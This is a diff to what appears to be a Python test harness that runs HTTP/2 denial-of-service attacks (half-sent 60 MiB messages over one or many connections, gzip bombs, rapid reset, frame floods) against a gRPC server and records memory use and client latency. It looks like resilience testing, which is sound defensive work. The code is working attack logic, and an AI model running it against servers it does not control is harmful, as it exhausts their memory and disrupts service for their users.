@@ -1,4 +1,4 @@
-"""gRPC attacks of issue 25 against flowserve and a bare ``grpc.aio`` server, in one run.
+"""gRPC attacks of issues 25 and 46 against flowserve and a bare ``grpc.aio`` server, in one run.
 
 For each attack, on each server: its RSS before, its peak during (VmHWM reset first) and
 after, an honest client's ModelInfer latency meanwhile (median and max, grpcio's stub on
@@ -282,37 +282,70 @@ def continuation_flood(address: str) -> str:
 
 
 def half_sent(address: str, streams: int = 100) -> str:
-    """``streams`` unary calls announcing 60 MiB messages, sent as far as the windows allow
-    and never finished."""
+    """``streams`` unary calls on one connection announcing 60 MiB messages, sent as far as
+    the windows allow (the server's SETTINGS honoured: grpc-core offers 4 MiB a stream by
+    default) and never finished."""
     raw, sent, going = Raw(address), 0, _until(SECONDS)
-    window, windows = 65535, {}
+    window, windows, initial = 65535, {}, [65535]
     for index in range(streams):
         stream = 2 * index + 1
         raw.sock.sendall(raw.headers(stream) + wire.frame(wire.DATA, 0, stream,
                                                            struct.pack(">BL", 0, 60 << 20)))
         windows[stream], window = 65530, window - 5
-    ended = 0
+    ended, zeros, left = 0, memoryview(bytes(1 << 20)), dict.fromkeys(windows, (60 << 20) - 1)
     try:
         while going():
-            for stream in list(windows):
-                size = min(windows[stream], window, 16384)
+            moved = 0
+            for stream in list(windows):  # all each window allows, in frames of 16 KiB
+                size = min(windows[stream], window, len(zeros), left[stream])  # never the last byte
                 if size > 0:
-                    raw.sock.sendall(wire.frame(wire.DATA, 0, stream, bytes(size)))
+                    left[stream] -= size
+                    raw.sock.sendall(b"".join(wire.frame(wire.DATA, 0, stream, zeros[at:min(at + 16384, size)])
+                                              for at in range(0, size, 16384)))
                     windows[stream] -= size
                     window -= size
-                    sent += size
-            for kind, flags, stream, payload in raw.pump(0.01):
+                    moved += size
+            sent += moved
+            for kind, flags, stream, payload in raw.pump(0.0005 if moved else 0.01):
                 if kind == wire.WINDOW_UPDATE:
                     if stream == 0:
                         window += struct.unpack(">L", payload)[0]
                     elif stream in windows:
                         windows[stream] += struct.unpack(">L", payload)[0]
+                elif kind == wire.SETTINGS and not flags & wire.ACK:
+                    _initial_window(payload, windows, initial)
                 elif kind in (wire.RST_STREAM, wire.HEADERS) and stream in windows:
                     ended += 1
                     del windows[stream]
     except OSError as exc:
         return f"cut off after {sent >> 20} MB ({type(exc).__name__})"
     return f"server took {sent >> 20} MB; {ended} of {streams} calls ended"
+
+
+def _initial_window(payload: bytes, windows: dict, initial: list) -> None:
+    """A SETTINGS frame's INITIAL_WINDOW_SIZE applied to the open streams' windows."""
+    for offset in range(0, len(payload) - 5, 6):
+        key, value = struct.unpack(">HL", payload[offset:offset + 6])
+        if key == 4:
+            for stream in windows:
+                windows[stream] += value - initial[0]
+            initial[0] = value
+
+
+def half_sent_connections(connections: int):
+    """``connections`` connections, each one unary call of a half-sent 60 MiB message."""
+    def attack(address: str) -> str:
+        outcomes = []
+        threads = [threading.Thread(target=lambda: outcomes.append(half_sent(address, 1)))
+                   for _ in range(connections)]
+        for thread in threads:
+            thread.start()
+        for thread in threads:
+            thread.join(60)
+        taken = sum(int(outcome.split()[2]) for outcome in outcomes if outcome.startswith("server took"))
+        ended = sum(outcome.endswith("1 of 1 calls ended") for outcome in outcomes)
+        return f"server took {taken} MB; {ended} of {connections} calls ended"
+    return attack
 
 
 def large_messages(address: str) -> str:
@@ -330,13 +363,16 @@ def large_messages(address: str) -> str:
 
 ATTACKS = [
     ("stream, answers never read", unread_stream),
+    ("1 connection of gzip bombs", lambda address: bombs(address, 1)),
     ("4 connections of gzip bombs", bombs),
     ("rapid reset", rapid_reset),
     ("PING flood", frame_flood(wire.PING, b"12345678")),
     ("SETTINGS flood", frame_flood(wire.SETTINGS)),
     ("WINDOW_UPDATE flood", frame_flood(wire.WINDOW_UPDATE, struct.pack(">L", 1))),
     ("CONTINUATION flood", continuation_flood),
-    ("100 half-sent 60 MiB messages", half_sent),
+    ("100 half-sent 60 MiB messages, 1 connection", half_sent),
+    ("10 connections x 1 half-sent 60 MiB message", half_sent_connections(10)),
+    ("100 connections x 1 half-sent 60 MiB message", half_sent_connections(100)),
     ("61 MiB messages", large_messages),
 ]
 
